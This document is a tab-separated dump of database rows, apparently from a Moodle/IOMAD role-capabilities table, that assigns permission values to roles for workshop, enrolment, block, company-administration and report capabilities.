1293	1	12	mod/workshop:addinstance	1	1795225987	0
1294	1	1	mod/workshop:addinstance	1	1795225987	0
1295	1	4	mod/workshop:switchphase	1	1795225987	0
1296	1	3	mod/workshop:switchphase	1	1795225988	0
1297	1	1	mod/workshop:switchphase	1	1795225988	0
1298	1	3	mod/workshop:editdimensions	1	1795225988	0
1299	1	1	mod/workshop:editdimensions	1	1795225988	0
1300	1	5	mod/workshop:submit	1	1795225988	0
1301	1	5	mod/workshop:peerassess	1	1795225988	0
1302	1	4	mod/workshop:manageexamples	1	1795225988	0
1303	1	3	mod/workshop:manageexamples	1	1795225988	0
1304	1	1	mod/workshop:manageexamples	1	1795225988	0
1305	1	4	mod/workshop:allocate	1	1795225988	0
1306	1	3	mod/workshop:allocate	1	1795225988	0
1307	1	1	mod/workshop:allocate	1	1795225988	0
1308	1	4	mod/workshop:publishsubmissions	1	1795225988	0
1309	1	3	mod/workshop:publishsubmissions	1	1795225988	0
1310	1	1	mod/workshop:publishsubmissions	1	1795225988	0
1311	1	5	mod/workshop:viewauthornames	1	1795225989	0
1312	1	4	mod/workshop:viewauthornames	1	1795225989	0
1313	1	3	mod/workshop:viewauthornames	1	1795225989	0
1314	1	1	mod/workshop:viewauthornames	1	1795225989	0
1315	1	4	mod/workshop:viewreviewernames	1	1795225989	0
1316	1	3	mod/workshop:viewreviewernames	1	1795225989	0
1317	1	1	mod/workshop:viewreviewernames	1	1795225989	0
1318	1	4	mod/workshop:viewallsubmissions	1	1795225989	0
1319	1	3	mod/workshop:viewallsubmissions	1	1795225989	0
1320	1	1	mod/workshop:viewallsubmissions	1	1795225989	0
1321	1	5	mod/workshop:viewpublishedsubmissions	1	1795225989	0
1322	1	4	mod/workshop:viewpublishedsubmissions	1	1795225989	0
1323	1	3	mod/workshop:viewpublishedsubmissions	1	1795225989	0
1324	1	1	mod/workshop:viewpublishedsubmissions	1	1795225989	0
1325	1	5	mod/workshop:viewauthorpublished	1	1795225989	0
1326	1	4	mod/workshop:viewauthorpublished	1	1795225989	0
1327	1	3	mod/workshop:viewauthorpublished	1	1795225990	0
1328	1	1	mod/workshop:viewauthorpublished	1	1795225990	0
1329	1	4	mod/workshop:viewallassessments	1	1795225990	0
1330	1	3	mod/workshop:viewallassessments	1	1795225990	0
1331	1	1	mod/workshop:viewallassessments	1	1795225990	0
1332	1	4	mod/workshop:overridegrades	1	1795225990	0
1333	1	3	mod/workshop:overridegrades	1	1795225990	0
1334	1	1	mod/workshop:overridegrades	1	1795225990	0
1335	1	4	mod/workshop:ignoredeadlines	1	1795225990	0
1336	1	3	mod/workshop:ignoredeadlines	1	1795225990	0
1337	1	1	mod/workshop:ignoredeadlines	1	1795225990	0
1338	1	4	mod/workshop:deletesubmissions	1	1795225990	0
1339	1	3	mod/workshop:deletesubmissions	1	1795225990	0
1340	1	1	mod/workshop:deletesubmissions	1	1795225990	0
1341	1	1	mod/workshop:exportsubmissions	1	1795225990	0
1342	1	4	mod/workshop:exportsubmissions	1	1795225990	0
1343	1	3	mod/workshop:exportsubmissions	1	1795225990	0
1344	1	5	mod/workshop:exportsubmissions	1	1795225991	0
1345	1	7	auth/oauth2:managelinkedlogins	1	1795225993	0
1346	1	1	enrol/category:config	1	1795225995	0
1347	1	3	enrol/category:config	1	1795225995	0
1348	1	3	enrol/cohort:config	1	1795225995	0
1349	1	1	enrol/cohort:config	1	1795225995	0
1350	1	1	enrol/cohort:unenrol	1	1795225995	0
1351	1	1	enrol/database:unenrol	1	1795225996	0
1352	1	1	enrol/database:config	1	1795225996	0
1353	1	3	enrol/database:config	1	1795225996	0
1354	1	1	enrol/fee:config	1	1795225996	0
1355	1	1	enrol/fee:manage	1	1795225996	0
1356	1	3	enrol/fee:manage	1	1795225996	0
1357	1	1	enrol/fee:unenrol	1	1795225996	0
1358	1	1	enrol/guest:config	1	1795225996	0
1359	1	3	enrol/guest:config	1	1795225996	0
1360	1	1	enrol/imsenterprise:config	1	1795225996	0
1361	1	3	enrol/imsenterprise:config	1	1795225996	0
1362	1	1	enrol/ldap:manage	1	1795225997	0
1363	1	3	enrol/license:config	1	1795225997	0
1364	1	1	enrol/license:config	1	1795225997	0
1365	1	3	enrol/license:manage	1	1795225997	0
1366	1	1	enrol/license:manage	1	1795225997	0
1367	1	5	enrol/license:unenrolself	1	1795225997	0
1368	1	3	enrol/license:unenrol	1	1795225997	0
1369	1	1	enrol/license:unenrol	1	1795225997	0
1370	1	1	enrol/lti:config	1	1795225998	0
1371	1	3	enrol/lti:config	1	1795225998	0
1372	1	1	enrol/lti:unenrol	1	1795225998	0
1373	1	3	enrol/lti:unenrol	1	1795225998	0
1374	1	1	enrol/manual:config	1	1795225998	0
1375	1	1	enrol/manual:enrol	1	1795225998	0
1376	1	3	enrol/manual:enrol	1	1795225998	0
1377	1	1	enrol/manual:manage	1	1795225998	0
1378	1	3	enrol/manual:manage	1	1795225998	0
1379	1	1	enrol/manual:unenrol	1	1795225998	0
1380	1	3	enrol/manual:unenrol	1	1795225998	0
1381	1	1	enrol/meta:config	1	1795225998	0
1382	1	3	enrol/meta:config	1	1795225998	0
1383	1	1	enrol/meta:selectaslinked	1	1795225998	0
1384	1	1	enrol/meta:unenrol	1	1795225999	0
1385	1	1	enrol/mnet:config	1	1795225999	0
1386	1	3	enrol/mnet:config	1	1795225999	0
1387	1	1	enrol/paypal:config	1	1795225999	0
1388	1	1	enrol/paypal:manage	1	1795225999	0
1389	1	3	enrol/paypal:manage	1	1795225999	0
1390	1	1	enrol/paypal:unenrol	1	1795225999	0
1391	1	3	enrol/self:config	1	1795225999	0
1392	1	1	enrol/self:config	1	1795225999	0
1393	1	3	enrol/self:manage	1	1795225999	0
1394	1	1	enrol/self:manage	1	1795225999	0
1395	1	5	enrol/self:unenrolself	1	1795225999	0
1396	1	3	enrol/self:unenrol	1	1795226000	0
1397	1	1	enrol/self:unenrol	1	1795226000	0
1398	1	7	enrol/self:enrolself	1	1795226000	0
1399	1	7	message/airnotifier:managedevice	1	1795226000	0
1400	1	3	block/accessreview:addinstance	1	1795226001	0
1401	1	12	block/accessreview:addinstance	1	1795226001	0
1402	1	1	block/accessreview:addinstance	1	1795226001	0
1403	1	3	block/accessreview:view	1	1795226001	0
1404	1	1	block/accessreview:view	1	1795226001	0
1405	1	3	block/activity_modules:addinstance	1	1795226001	0
1406	1	12	block/activity_modules:addinstance	1	1795226001	0
1407	1	1	block/activity_modules:addinstance	1	1795226001	0
1408	1	3	block/activity_results:addinstance	1	1795226001	0
1409	1	12	block/activity_results:addinstance	1	1795226001	0
1410	1	1	block/activity_results:addinstance	1	1795226001	0
1411	1	7	block/admin_bookmarks:myaddinstance	1	1795226001	0
1412	1	3	block/admin_bookmarks:addinstance	1	1795226001	0
1413	1	12	block/admin_bookmarks:addinstance	1	1795226001	0
1414	1	1	block/admin_bookmarks:addinstance	1	1795226002	0
1415	1	3	block/badges:addinstance	1	1795226002	0
1416	1	12	block/badges:addinstance	1	1795226002	0
1417	1	1	block/badges:addinstance	1	1795226002	0
1418	1	7	block/badges:myaddinstance	1	1795226002	0
1419	1	3	block/blog_menu:addinstance	1	1795226002	0
1420	1	12	block/blog_menu:addinstance	1	1795226002	0
1421	1	1	block/blog_menu:addinstance	1	1795226002	0
1422	1	3	block/blog_recent:addinstance	1	1795226002	0
1423	1	12	block/blog_recent:addinstance	1	1795226002	0
1424	1	1	block/blog_recent:addinstance	1	1795226002	0
1425	1	3	block/blog_tags:addinstance	1	1795226002	0
1426	1	12	block/blog_tags:addinstance	1	1795226002	0
1427	1	1	block/blog_tags:addinstance	1	1795226002	0
1428	1	7	block/calendar_month:myaddinstance	1	1795226002	0
1429	1	3	block/calendar_month:addinstance	1	1795226002	0
1430	1	12	block/calendar_month:addinstance	1	1795226002	0
1431	1	1	block/calendar_month:addinstance	1	1795226002	0
1432	1	7	block/calendar_upcoming:myaddinstance	1	1795226003	0
1433	1	3	block/calendar_upcoming:addinstance	1	1795226003	0
1434	1	12	block/calendar_upcoming:addinstance	1	1795226003	0
1435	1	1	block/calendar_upcoming:addinstance	1	1795226003	0
1436	1	7	block/comments:myaddinstance	1	1795226003	0
1437	1	3	block/comments:addinstance	1	1795226003	0
1438	1	12	block/comments:addinstance	1	1795226003	0
1439	1	1	block/comments:addinstance	1	1795226003	0
1440	1	3	block/completionstatus:addinstance	1	1795226003	0
1441	1	12	block/completionstatus:addinstance	1	1795226003	0
1442	1	1	block/completionstatus:addinstance	1	1795226003	0
1443	1	7	block/course_list:myaddinstance	1	1795226003	0
1444	1	3	block/course_list:addinstance	1	1795226003	0
1445	1	12	block/course_list:addinstance	1	1795226003	0
1446	1	1	block/course_list:addinstance	1	1795226003	0
1447	1	3	block/course_summary:addinstance	1	1795226003	0
1448	1	12	block/course_summary:addinstance	1	1795226003	0
1449	1	1	block/course_summary:addinstance	1	1795226003	0
1450	1	3	block/feedback:addinstance	1	1795226003	0
1451	1	12	block/feedback:addinstance	1	1795226004	0
1452	1	1	block/feedback:addinstance	1	1795226004	0
1453	1	7	block/globalsearch:myaddinstance	1	1795226004	0
1454	1	3	block/globalsearch:addinstance	1	1795226004	0
1455	1	12	block/globalsearch:addinstance	1	1795226004	0
1456	1	1	block/globalsearch:addinstance	1	1795226004	0
1457	1	7	block/glossary_random:myaddinstance	1	1795226004	0
1458	1	3	block/glossary_random:addinstance	1	1795226004	0
1459	1	12	block/glossary_random:addinstance	1	1795226004	0
1460	1	1	block/glossary_random:addinstance	1	1795226004	0
1461	1	7	block/html:myaddinstance	1	1795226004	0
1462	1	3	block/html:addinstance	1	1795226004	0
1463	1	12	block/html:addinstance	1	1795226004	0
1464	1	1	block/html:addinstance	1	1795226004	0
1465	1	1	block/iomad_approve_access:addinstance	1	1795226004	0
1466	1	1	block/iomad_approve_access:myaddinstance	1	1795226004	0
1467	1	10	block/iomad_approve_access:approve	1	1795226004	0
1468	1	11	block/iomad_approve_access:approve	1	1795226004	0
1469	1	9	block/iomad_approve_access:approve	1	1795226004	0
1470	1	9	block/iomad_commerce:admin_view	1	1795226005	0
1471	1	9	block/iomad_commerce:add_course	1	1795226005	0
1472	1	9	block/iomad_commerce:edit_course	1	1795226005	0
1473	1	9	block/iomad_commerce:hide_course	1	1795226005	0
1474	1	9	block/iomad_commerce:buyitnow	1	1795226005	0
1475	1	10	block/iomad_commerce:buyitnow	1	1795226005	0
1476	1	9	block/iomad_commerce:buyinbulk	1	1795226005	0
1477	1	10	block/iomad_commerce:buyinbulk	1	1795226005	0
1478	1	9	block/iomad_commerce:delete_course	1	1795226005	0
1479	1	9	block/iomad_commerce:manage_default	1	1795226005	0
1480	1	9	block/iomad_commerce:manage_tags	1	1795226005	0
1481	1	10	block/iomad_company_admin:companymanagement_view	1	1795226005	0
1482	1	11	block/iomad_company_admin:companymanagement_view	1	1795226005	0
1483	1	9	block/iomad_company_admin:companymanagement_view	1	1795226005	0
1484	1	10	block/iomad_company_admin:usermanagement_view	1	1795226005	0
1485	1	11	block/iomad_company_admin:usermanagement_view	1	1795226005	0
1486	1	9	block/iomad_company_admin:usermanagement_view	1	1795226005	0
1487	1	10	block/iomad_company_admin:coursemanagement_view	1	1795226005	0
1488	1	11	block/iomad_company_admin:coursemanagement_view	1	1795226005	0
1489	1	9	block/iomad_company_admin:coursemanagement_view	1	1795226005	0
1490	1	10	block/iomad_company_admin:licensemanagement_view	1	1795226005	0
1491	1	11	block/iomad_company_admin:licensemanagement_view	1	1795226005	0
1492	1	9	block/iomad_company_admin:licensemanagement_view	1	1795226005	0
1493	1	10	block/iomad_company_admin:competencymanagement_view	1	1795226005	0
1494	1	9	block/iomad_company_admin:competencymanagement_view	1	1795226005	0
1495	1	10	block/iomad_company_admin:assign_company_manager	1	1795226005	0
1496	1	9	block/iomad_company_admin:assign_company_manager	1	1795226006	0
1497	1	10	block/iomad_company_admin:assign_department_manager	1	1795226006	0
1498	1	11	block/iomad_company_admin:assign_department_manager	1	1795226006	0
1499	1	9	block/iomad_company_admin:assign_department_manager	1	1795226006	0
1500	1	10	block/iomad_company_admin:assign_educator	1	1795226006	0
1501	1	9	block/iomad_company_admin:assign_educator	1	1795226006	0
1502	1	10	block/iomad_company_admin:assign_company_reporter	1	1795226006	0
1503	1	9	block/iomad_company_admin:assign_company_reporter	1	1795226006	0
1504	1	10	block/iomad_company_admin:view_my_company_email	1	1795226006	0
1505	1	9	block/iomad_company_admin:view_my_company_email	1	1795226006	0
1506	1	9	block/iomad_company_admin:company_add	1	1795226006	0
1507	1	9	block/iomad_company_admin:company_add_child	1	1795226006	0
1508	1	10	block/iomad_company_admin:company_edit	1	1795226006	0
1509	1	9	block/iomad_company_admin:company_edit	1	1795226006	0
1510	1	10	block/iomad_company_admin:company_edit_appearance	1	1795226006	0
1511	1	9	block/iomad_company_admin:company_edit_appearance	1	1795226006	0
1512	1	9	block/iomad_company_admin:company_edit_restricted	1	1795226006	0
1513	1	9	block/iomad_company_admin:company_edit_smtp	1	1795226006	0
1514	1	9	block/iomad_company_admin:company_delete	1	1795226006	0
1515	1	10	block/iomad_company_admin:company_view	1	1795226006	0
1516	1	9	block/iomad_company_admin:company_view	1	1795226006	0
1517	1	9	block/iomad_company_admin:company_view_all	1	1795226006	0
1518	1	14	block/iomad_company_admin:company_view_all	1	1795226006	0
1519	1	10	block/iomad_company_admin:company_user	1	1795226006	0
1520	1	11	block/iomad_company_admin:company_user	1	1795226006	0
1521	1	9	block/iomad_company_admin:company_user	1	1795226006	0
1522	1	10	block/iomad_company_admin:company_manager	1	1795226006	0
1523	1	11	block/iomad_company_admin:company_manager	1	1795226006	0
1524	1	9	block/iomad_company_admin:company_manager	1	1795226006	0
1525	1	9	block/iomad_company_admin:company_course	1	1795226006	0
1526	1	9	block/iomad_company_admin:company_course_unenrol	1	1795226006	0
1527	1	9	block/iomad_company_admin:createcourse	1	1795226007	0
1528	1	9	block/iomad_company_admin:delegatecourse	1	1795226007	0
1529	1	9	block/iomad_company_admin:deletecourses	1	1795226007	0
1530	1	9	block/iomad_company_admin:deleteallcourses	1	1795226007	0
1531	1	9	block/iomad_company_admin:destroycourses	1	1795226007	0
1532	1	9	block/iomad_company_admin:hideshowcourses	1	1795226007	0
1533	1	9	block/iomad_company_admin:hideshowallcourses	1	1795226007	0
1534	1	9	block/iomad_company_admin:managecourses	1	1795226007	0
1535	1	9	block/iomad_company_admin:manageallcourses	1	1795226007	0
1536	1	9	block/iomad_company_admin:viewcourses	1	1795226007	0
1537	1	9	block/iomad_company_admin:viewallsharedcourses	1	1795226007	0
1538	1	10	block/iomad_company_admin:user_create	1	1795226007	0
1539	1	11	block/iomad_company_admin:user_create	1	1795226007	0
1540	1	9	block/iomad_company_admin:user_create	1	1795226007	0
1541	1	10	block/iomad_company_admin:user_upload	1	1795226007	0
1542	1	11	block/iomad_company_admin:user_upload	1	1795226007	0
1543	1	9	block/iomad_company_admin:user_upload	1	1795226007	0
1544	1	10	block/iomad_company_admin:company_course_users	1	1795226007	0
1545	1	11	block/iomad_company_admin:company_course_users	1	1795226007	0
1546	1	9	block/iomad_company_admin:company_course_users	1	1795226007	0
1547	1	10	block/iomad_company_admin:company_license_users	1	1795226007	0
1548	1	11	block/iomad_company_admin:company_license_users	1	1795226007	0
1549	1	9	block/iomad_company_admin:company_license_users	1	1795226007	0
1550	1	10	block/iomad_company_admin:editusers	1	1795226007	0
1551	1	11	block/iomad_company_admin:editusers	1	1795226007	0
1552	1	9	block/iomad_company_admin:editusers	1	1795226007	0
1553	1	10	block/iomad_company_admin:edituserpassword	1	1795226007	0
1554	1	11	block/iomad_company_admin:edituserpassword	1	1795226007	0
1555	1	9	block/iomad_company_admin:edituserpassword	1	1795226007	0
1556	1	10	block/iomad_company_admin:deleteuser	1	1795226007	0
1557	1	11	block/iomad_company_admin:deleteuser	1	1795226007	0
1558	1	9	block/iomad_company_admin:deleteuser	1	1795226008	0
1559	1	10	block/iomad_company_admin:suspenduser	1	1795226008	0
1560	1	11	block/iomad_company_admin:suspenduser	1	1795226008	0
1561	1	9	block/iomad_company_admin:suspenduser	1	1795226008	0
1562	1	10	block/iomad_company_admin:editmanagers	1	1795226008	0
1563	1	9	block/iomad_company_admin:editmanagers	1	1795226008	0
1564	1	9	block/iomad_company_admin:editallusers	1	1795226008	0
1565	1	10	block/iomad_company_admin:company_user_profiles	1	1795226008	0
1566	1	9	block/iomad_company_admin:company_user_profiles	1	1795226008	0
1567	1	9	block/iomad_company_admin:allcompany_user_profiles	1	1795226008	0
1568	1	9	block/iomad_company_admin:export_departments	1	1795226008	0
1569	1	9	block/iomad_company_admin:import_departments	1	1795226008	0
1570	1	9	block/iomad_company_admin:edit_all_departments	1	1795226008	0
1571	1	10	block/iomad_company_admin:edit_departments	1	1795226008	0
1572	1	9	block/iomad_company_admin:edit_departments	1	1795226008	0
1573	1	10	block/iomad_company_admin:assign_groups	1	1795226008	0
1574	1	9	block/iomad_company_admin:assign_groups	1	1795226008	0
1575	1	10	block/iomad_company_admin:edit_groups	1	1795226008	0
1576	1	9	block/iomad_company_admin:edit_groups	1	1795226008	0
1577	1	9	block/iomad_company_admin:edit_licenses	1	1795226008	0
1578	1	9	block/iomad_company_admin:split_my_licenses	1	1795226008	0
1579	1	9	block/iomad_company_admin:edit_my_licenses	1	1795226008	0
1580	1	10	block/iomad_company_admin:view_licenses	1	1795226008	0
1581	1	11	block/iomad_company_admin:view_licenses	1	1795226008	0
1582	1	9	block/iomad_company_admin:view_licenses	1	1795226008	0
1583	1	10	block/iomad_company_admin:allocate_licenses	1	1795226008	0
1584	1	11	block/iomad_company_admin:allocate_licenses	1	1795226008	0
1585	1	9	block/iomad_company_admin:allocate_licenses	1	1795226008	0
1586	1	10	block/iomad_company_admin:unallocate_licenses	1	1795226008	0
1587	1	11	block/iomad_company_admin:unallocate_licenses	1	1795226009	0
1588	1	9	block/iomad_company_admin:unallocate_licenses	1	1795226009	0
1589	1	9	block/iomad_company_admin:classrooms	1	1795226009	0
1590	1	9	block/iomad_company_admin:classrooms_add	1	1795226009	0
1591	1	9	block/iomad_company_admin:classrooms_edit	1	1795226009	0
1592	1	9	block/iomad_company_admin:classrooms_delete	1	1795226009	0
1593	1	10	block/iomad_company_admin:viewsuspendedusers	1	1795226009	0
1594	1	11	block/iomad_company_admin:viewsuspendedusers	1	1795226009	0
1595	1	9	block/iomad_company_admin:viewsuspendedusers	1	1795226009	0
1596	1	9	block/iomad_company_admin:suspendcompanies	1	1795226009	0
1597	1	9	block/iomad_company_admin:restrict_capabilities	1	1795226009	0
1598	1	10	block/iomad_company_admin:competencyview	1	1795226009	0
1599	1	9	block/iomad_company_admin:competencyview	1	1795226009	0
1600	1	10	block/iomad_company_admin:manageframeworks	1	1795226009	0
1601	1	9	block/iomad_company_admin:manageframeworks	1	1795226009	0
1602	1	10	block/iomad_company_admin:templateview	1	1795226009	0
1603	1	9	block/iomad_company_admin:templateview	1	1795226009	0
1604	1	10	block/iomad_company_admin:company_framework	1	1795226009	0
1605	1	9	block/iomad_company_admin:company_framework	1	1795226009	0
1606	1	10	block/iomad_company_admin:company_template	1	1795226009	0
1607	1	9	block/iomad_company_admin:company_template	1	1795226009	0
1608	1	9	block/iomad_company_admin:managetemplates	1	1795226009	0
1609	1	10	block/iomad_company_admin:company_edit_certificateinfo	1	1795226009	0
1610	1	9	block/iomad_company_admin:company_edit_certificateinfo	1	1795226009	0
1611	1	9	block/iomad_company_admin:canviewchildren	1	1795226009	0
1612	1	10	block/iomad_company_admin:downloadcertificates	1	1795226009	0
1613	1	11	block/iomad_company_admin:downloadcertificates	1	1795226009	0
1614	1	9	block/iomad_company_admin:downloadcertificates	1	1795226009	0
1615	1	7	block/iomad_company_admin:downloadmycertificates	1	1795226009	0
1616	1	9	block/iomad_company_admin:editpubliclocation	1	1795226009	0
1617	1	7	block/iomad_html:myaddinstance	1	1795226010	0
1618	1	3	block/iomad_html:addinstance	1	1795226010	0
1619	1	12	block/iomad_html:addinstance	1	1795226010	0
1620	1	1	block/iomad_html:addinstance	1	1795226010	0
1621	1	7	block/iomad_learningpath:myaddinstance	1	1795226010	0
1622	1	3	block/iomad_learningpath:addinstance	1	1795226010	0
1623	1	12	block/iomad_learningpath:addinstance	1	1795226010	0
1624	1	1	block/iomad_learningpath:addinstance	1	1795226010	0
1625	1	10	block/iomad_link:view	1	1795226010	0
1626	1	11	block/iomad_link:view	1	1795226010	0
1627	1	9	block/iomad_link:view	1	1795226010	0
1628	1	9	block/iomad_microlearning:view	1	1795226010	0
1629	1	9	block/iomad_microlearning:thread_clone	1	1795226010	0
1630	1	9	block/iomad_microlearning:edit_threads	1	1795226010	0
1631	1	9	block/iomad_microlearning:import_threads	1	1795226010	0
1632	1	9	block/iomad_microlearning:edit_nuggets	1	1795226011	0
1633	1	9	block/iomad_microlearning:thread_delete	1	1795226011	0
1634	1	9	block/iomad_microlearning:thread_view	1	1795226011	0
1635	1	9	block/iomad_microlearning:assign_threads	1	1795226011	0
1636	1	9	block/iomad_microlearning:manage_groups	1	1795226011	0
1637	1	9	block/iomad_microlearning:importgroupfromcsv	1	1795226011	0
1638	1	7	block/iomad_onlineusers:myaddinstance	1	1795226011	0
1639	1	3	block/iomad_onlineusers:addinstance	1	1795226011	0
1640	1	12	block/iomad_onlineusers:addinstance	1	1795226011	0
1641	1	1	block/iomad_onlineusers:addinstance	1	1795226011	0
1642	1	7	block/iomad_onlineusers:viewlist	1	1795226011	0
1643	1	6	block/iomad_onlineusers:viewlist	-1	1795226011	0
1644	1	5	block/iomad_onlineusers:viewlist	1	1795226011	0
1645	1	4	block/iomad_onlineusers:viewlist	1	1795226011	0
1646	1	3	block/iomad_onlineusers:viewlist	1	1795226011	0
1647	1	1	block/iomad_onlineusers:viewlist	1	1795226011	0
1648	1	10	block/iomad_reports:view	1	1795226011	0
1649	1	11	block/iomad_reports:view	1	1795226011	0
1650	1	9	block/iomad_reports:view	1	1795226011	0
1651	1	14	block/iomad_reports:view	1	1795226011	0
1652	1	15	block/iomad_reports:view	1	1795226011	0
1653	1	9	block/iomad_welcome:view	1	1795226011	0
1654	1	3	block/login:addinstance	1	1795226011	0
1655	1	12	block/login:addinstance	1	1795226012	0
1656	1	1	block/login:addinstance	1	1795226012	0
1657	1	3	block/lp:addinstance	1	1795226012	0
1658	1	12	block/lp:addinstance	1	1795226012	0
1659	1	1	block/lp:addinstance	1	1795226012	0
1660	1	7	block/lp:myaddinstance	1	1795226012	0
1661	1	7	block/mentees:myaddinstance	1	1795226012	0
1662	1	3	block/mentees:addinstance	1	1795226012	0
1663	1	12	block/mentees:addinstance	1	1795226012	0
1664	1	1	block/mentees:addinstance	1	1795226012	0
1665	1	7	block/mnet_hosts:myaddinstance	1	1795226012	0
1666	1	3	block/mnet_hosts:addinstance	1	1795226012	0
1667	1	12	block/mnet_hosts:addinstance	1	1795226012	0
1668	1	1	block/mnet_hosts:addinstance	1	1795226012	0
1669	1	7	block/mycourses:myaddinstance	1	1795226012	0
1670	1	3	block/mycourses:addinstance	1	1795226012	0
1671	1	12	block/mycourses:addinstance	1	1795226012	0
1672	1	1	block/mycourses:addinstance	1	1795226012	0
1673	1	7	block/myoverview:myaddinstance	1	1795226013	0
1674	1	7	block/myprofile:myaddinstance	1	1795226013	0
1675	1	3	block/myprofile:addinstance	1	1795226013	0
1676	1	12	block/myprofile:addinstance	1	1795226013	0
1677	1	1	block/myprofile:addinstance	1	1795226013	0
1678	1	7	block/navigation:myaddinstance	1	1795226013	0
1679	1	3	block/navigation:addinstance	1	1795226013	0
1680	1	12	block/navigation:addinstance	1	1795226013	0
1681	1	1	block/navigation:addinstance	1	1795226013	0
1682	1	7	block/news_items:myaddinstance	1	1795226013	0
1683	1	3	block/news_items:addinstance	1	1795226013	0
1684	1	12	block/news_items:addinstance	1	1795226013	0
1685	1	1	block/news_items:addinstance	1	1795226013	0
1686	1	7	block/online_users:myaddinstance	1	1795226013	0
1687	1	3	block/online_users:addinstance	1	1795226013	0
1688	1	12	block/online_users:addinstance	1	1795226013	0
1689	1	1	block/online_users:addinstance	1	1795226013	0
1690	1	7	block/online_users:viewlist	1	1795226013	0
1691	1	6	block/online_users:viewlist	-1	1795226013	0
1692	1	5	block/online_users:viewlist	1	1795226013	0
1693	1	4	block/online_users:viewlist	1	1795226013	0
1694	1	3	block/online_users:viewlist	1	1795226013	0
1695	1	1	block/online_users:viewlist	1	1795226014	0
1696	1	7	block/private_files:myaddinstance	1	1795226014	0
1697	1	3	block/private_files:addinstance	1	1795226014	0
1698	1	12	block/private_files:addinstance	1	1795226014	0
1699	1	1	block/private_files:addinstance	1	1795226014	0
1700	1	3	block/recent_activity:addinstance	1	1795226014	0
1701	1	12	block/recent_activity:addinstance	1	1795226014	0
1702	1	1	block/recent_activity:addinstance	1	1795226014	0
1703	1	7	block/recent_activity:viewaddupdatemodule	1	1795226014	0
1704	1	7	block/recent_activity:viewdeletemodule	1	1795226014	0
1705	1	7	block/recentlyaccessedcourses:myaddinstance	1	1795226014	0
1706	1	7	block/recentlyaccesseditems:myaddinstance	1	1795226015	0
1707	1	7	block/rss_client:myaddinstance	1	1795226015	0
1708	1	3	block/rss_client:addinstance	1	1795226015	0
1709	1	12	block/rss_client:addinstance	1	1795226015	0
1710	1	1	block/rss_client:addinstance	1	1795226015	0
1711	1	4	block/rss_client:manageownfeeds	1	1795226015	0
1712	1	3	block/rss_client:manageownfeeds	1	1795226015	0
1713	1	1	block/rss_client:manageownfeeds	1	1795226015	0
1714	1	1	block/rss_client:manageanyfeeds	1	1795226015	0
1715	1	3	block/search_forums:addinstance	1	1795226015	0
1716	1	12	block/search_forums:addinstance	1	1795226015	0
1717	1	1	block/search_forums:addinstance	1	1795226015	0
1718	1	3	block/section_links:addinstance	1	1795226016	0
1719	1	12	block/section_links:addinstance	1	1795226016	0
1720	1	1	block/section_links:addinstance	1	1795226016	0
1721	1	3	block/selfcompletion:addinstance	1	1795226016	0
1722	1	12	block/selfcompletion:addinstance	1	1795226016	0
1723	1	1	block/selfcompletion:addinstance	1	1795226016	0
1724	1	7	block/settings:myaddinstance	1	1795226016	0
1725	1	3	block/settings:addinstance	1	1795226016	0
1726	1	12	block/settings:addinstance	1	1795226016	0
1727	1	1	block/settings:addinstance	1	1795226016	0
1728	1	3	block/site_main_menu:addinstance	1	1795226016	0
1729	1	12	block/site_main_menu:addinstance	1	1795226016	0
1730	1	1	block/site_main_menu:addinstance	1	1795226017	0
1731	1	3	block/social_activities:addinstance	1	1795226017	0
1732	1	12	block/social_activities:addinstance	1	1795226017	0
1733	1	1	block/social_activities:addinstance	1	1795226017	0
1734	1	7	block/starredcourses:myaddinstance	1	1795226017	0
1735	1	3	block/tag_flickr:addinstance	1	1795226017	0
1736	1	12	block/tag_flickr:addinstance	1	1795226017	0
1737	1	1	block/tag_flickr:addinstance	1	1795226017	0
1738	1	3	block/tag_youtube:addinstance	1	1795226017	0
1739	1	12	block/tag_youtube:addinstance	1	1795226017	0
1740	1	1	block/tag_youtube:addinstance	1	1795226017	0
1741	1	7	block/tags:myaddinstance	1	1795226018	0
1742	1	3	block/tags:addinstance	1	1795226018	0
1743	1	12	block/tags:addinstance	1	1795226018	0
1744	1	1	block/tags:addinstance	1	1795226018	0
1745	1	7	block/timeline:myaddinstance	1	1795226018	0
1746	1	4	report/completion:view	1	1795226022	0
1747	1	3	report/completion:view	1	1795226022	0
1748	1	1	report/completion:view	1	1795226022	0
1749	1	4	report/courseoverview:view	1	1795226022	0
1750	1	3	report/courseoverview:view	1	1795226022	0
1751	1	12	report/courseoverview:view	1	1795226022	0
1752	1	13	report/courseoverview:view	1	1795226022	0
1753	1	1	report/courseoverview:view	1	1795226022	0
1754	1	4	report/log:view	1	1795226022	0
1755	1	3	report/log:view	1	1795226022	0
1756	1	12	report/log:view	1	1795226022	0
1757	1	13	report/log:view	1	1795226023	0
1758	1	1	report/log:view	1	1795226023	0
1759	1	4	report/log:viewtoday	1	1795226023	0
1760	1	3	report/log:viewtoday	1	1795226023	0
1761	1	12	report/log:viewtoday	1	1795226023	0
1762	1	13	report/log:viewtoday	1	1795226023	0
1763	1	1	report/log:viewtoday	1	1795226023	0
1764	1	4	report/loglive:view	1	1795226023	0
1765	1	3	report/loglive:view	1	1795226023	0
1766	1	12	report/loglive:view	1	1795226023	0
1767	1	13	report/loglive:view	1	1795226023	0
1768	1	1	report/loglive:view	1	1795226023	0
1769	1	4	report/outline:view	1	1795226023	0
1770	1	3	report/outline:view	1	1795226023	0
1771	1	12	report/outline:view	1	1795226023	0
1772	1	13	report/outline:view	1	1795226023	0
1773	1	1	report/outline:view	1	1795226023	0
1774	1	4	report/outline:viewuserreport	1	1795226023	0
1775	1	3	report/outline:viewuserreport	1	1795226023	0
1776	1	1	report/outline:viewuserreport	1	1795226023	0
1777	1	4	report/participation:view	1	1795226023	0
1778	1	3	report/participation:view	1	1795226023	0
1779	1	12	report/participation:view	1	1795226024	0
1780	1	13	report/participation:view	1	1795226024	0
1781	1	1	report/participation:view	1	1795226024	0
1782	1	1	report/performance:view	1	1795226024	0
1783	1	4	report/progress:view	1	1795226024	0
1784	1	3	report/progress:view	1	1795226024	0
1785	1	12	report/progress:view	1	1795226024	0
1786	1	13	report/progress:view	1	1795226024	0
1787	1	1	report/progress:view	1	1795226024	0
1788	1	1	report/security:view	1	1795226024	0
1789	1	4	report/stats:view	1	1795226024	0
1790	1	3	report/stats:view	1	1795226024	0
1791	1	1	report/stats:view	1	1795226024	0
1792	1	1	report/status:view	1	1795226024	0
1793	1	6	report/usersessions:manageownsessions	-1000	1795226025	0
1794	1	7	report/usersessions:manageownsessions	1	1795226025	0
1795	1	1	report/usersessions:manageownsessions	1	1795226025	0
